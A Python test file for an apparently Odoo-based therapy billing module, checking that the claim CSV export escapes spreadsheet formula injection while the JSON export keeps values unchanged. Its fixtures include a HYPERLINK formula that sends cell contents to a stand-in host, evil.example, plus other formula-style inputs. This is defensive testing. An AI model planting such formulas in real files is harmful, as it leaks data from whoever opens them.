import base64
import csv
import io
import json
from datetime import datetime, timedelta

from odoo.tests import tagged

from .common import GroupTherapyCommon
from .test_fees_and_claims import sign_session_notes

HYPERLINK = '=HYPERLINK("https://evil.example/?d="&A1,"Open chart")'


@tagged("post_install", "-at_install")
class TestClaimExportCells(GroupTherapyCommon):
    """Text that a spreadsheet would run as a formula (OWASP "CSV Injection") reaches the claim
    CSV as text: a leading single quote; the numbers and codes stay as they are."""

    @classmethod
    def setUpClass(cls):
        super().setUpClass()
        cls.group.member_ids.date_start = datetime.now().date() - timedelta(days=30)
        # What front desk and clients can type: a name, a reference, initials, a modifier.
        cls.clients[0].name = HYPERLINK
        cls.clients[1].ref = "-2+3"
        cls.clients[2].ref = "\tcmd"
        cls.clients[3].ref = "\r=1+1"
        cls.group.code = "+AAG"
        cls.session = cls._make_session(cls.group, days=-1)
        cls.session.action_mark_all_attended()
        line = cls.session.therapy_attendance_ids.filtered(
            lambda line: line.partner_id == cls.clients[0]
        )
        line.modifiers = "@SUM(1,1)"
        sign_session_notes(cls.session, cls.provider)

    def _export(self, file_format):
        today = datetime.now().date()
        wizard = (
            self.env["therapy.claim.export.wizard"]
            .with_user(self.front_desk)
            .create(
                {
                    "date_from": today - timedelta(days=7),
                    "date_to": today,
                    "file_format": file_format,
                }
            )
        )
        wizard.action_export()
        return base64.b64decode(wizard.data).decode()

    def test_csv_cells_never_start_a_formula(self):
        rows = list(csv.DictReader(io.StringIO(self._export("csv"), newline="")))
        self.assertEqual(len(rows), 4)
        by_ref = {row["client_ref"]: row for row in rows}
        first = next(row for row in rows if HYPERLINK in row["client"])
        self.assertEqual(first["client"], f"'{HYPERLINK}")
        self.assertEqual(first["modifiers"], "'@SUM(1,1)")
        self.assertEqual(set(by_ref), {"", "'-2+3", "'\tcmd", "'\r=1+1"})
        self.assertEqual({row["group"] for row in rows}, {"'+AAG"})
        for row in rows:
            for column, cell in row.items():
                with self.subTest(column=column, cell=cell):
                    self.assertFalse(cell.startswith(("=", "+", "-", "@", "\t", "\r")))
        # Codes, numbers and dates are untouched.
        self.assertEqual(first["cpt"], "90853")
        self.assertEqual(first["units"], "1")
        self.assertEqual(float(first["charge"]), self.cpt_90853.lst_price)
        self.assertEqual(first["date_of_service"], str(self.session.therapy_session_date))
        self.assertEqual(by_ref["'-2+3"]["client"], "Client 02")

    def test_json_keeps_the_values_as_they_are(self):
        """JSON is read by programs, not spreadsheets: the clearinghouse gets the real name."""
        payload = json.loads(self._export("json"))
        clients = {line["client"] for line in payload["claim_lines"]}
        self.assertIn(HYPERLINK, clients)
        self.assertIn("+AAG", {line["group"] for line in payload["claim_lines"]})
